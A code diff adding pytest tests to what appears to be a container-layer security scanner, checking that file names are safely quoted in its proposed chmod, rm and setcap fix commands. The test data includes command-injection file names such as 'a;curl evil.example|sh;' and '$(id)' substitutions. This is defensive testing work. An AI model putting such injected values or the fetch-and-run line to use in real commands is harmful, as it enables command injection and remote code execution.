@@ -34,6 +34,37 @@ def test_a_setuid_program_of_nobody_is_told_with_its_layer_and_what_to_do() -> N
     assert found.fix == "in the instruction that brings it: chmod ug-s /usr/local/bin/tool"
 
 
+@pytest.mark.parametrize(
+    ("name", "change"),
+    [
+        ("a b", "chmod ug-s '/bin/a b'"),
+        ("a;curl evil.example|sh;", "chmod ug-s '/bin/a;curl evil.example|sh;'"),
+        ("a'$(id)", "chmod ug-s '/bin/a'\"'\"'$(id)'"),
+        ("a\nid", "take the bits away with chmod ug-s"),
+    ],
+)
+def test_a_name_is_one_word_of_the_command_that_is_proposed_or_not_in_it(name: str, change: str) -> None:
+    (found,) = told("setuid-program", layer(file(f"bin/{name}", "x", mode=0o4755)))
+    assert found.fix == f"in the instruction that brings it: {change}"
+
+
+def test_so_it_is_in_the_commands_of_the_other_rules() -> None:
+    evil = "x y$(id)"
+    (writable,) = told("writable-by-all", layer(file(f"opt/{evil}", "x", mode=0o666)))
+    assert str(writable.fix).startswith(f"in the instruction that makes it so: chmod o-w '/opt/{evil}', and")
+    (writable,) = told("writable-by-all", layer(directory("opt/a\x1b", mode=0o777)))
+    assert "take the permission away with chmod -R o-w, and" in str(writable.fix)
+    (disk,) = told("device-in-layer", layer(device(evil, 8, 0, block=True)))
+    assert str(disk.fix).startswith(f"rm '/{evil}' in the instruction that makes it;")
+    (disk,) = told("device-in-layer", layer(device("a\n", 8, 0, block=True)))
+    assert str(disk.fix).startswith("remove it in the instruction that makes it;")
+    attributes = {"security.capability": NET_RAW}
+    (capable,) = told("capable-program", layer(file(f"bin/{evil}", "x", mode=0o755, xattrs=attributes)))
+    assert f"(setcap -r '/bin/{evil}')" in str(capable.fix)
+    (capable,) = told("capable-program", layer(file("bin/\n", "x", mode=0o755, xattrs=attributes)))
+    assert str(capable.fix).startswith("leave out setcap and grant")
+
+
 def test_setgid_and_setuid_of_others_than_root_matter_less() -> None:
     others = layer(file("bin/a", "x", mode=0o2755), file("bin/b", "x", mode=0o4755, uid=33))
     assert severities("setuid-program", others) == [(Severity.LOW, ("bin/a", "bin/b"))]
